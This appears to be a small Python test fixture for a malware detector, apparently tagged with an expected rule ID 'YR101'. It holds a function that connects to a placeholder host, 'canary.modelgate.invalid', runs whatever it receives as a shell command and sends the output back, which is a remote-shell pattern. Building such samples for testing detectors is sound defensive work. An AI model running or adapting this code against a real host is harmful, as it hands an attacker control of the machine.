# Inert fixture: the canary host never resolves (.invalid).
import socket
import subprocess


def beacon():
    conn = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    conn.connect(("canary.modelgate.invalid", 8443))
    while True:
        data = conn.recv(4096)
        proc = subprocess.run(data.decode(), shell=True, capture_output=True)  # expect: YR101
        conn.sendall(proc.stdout + proc.stderr)
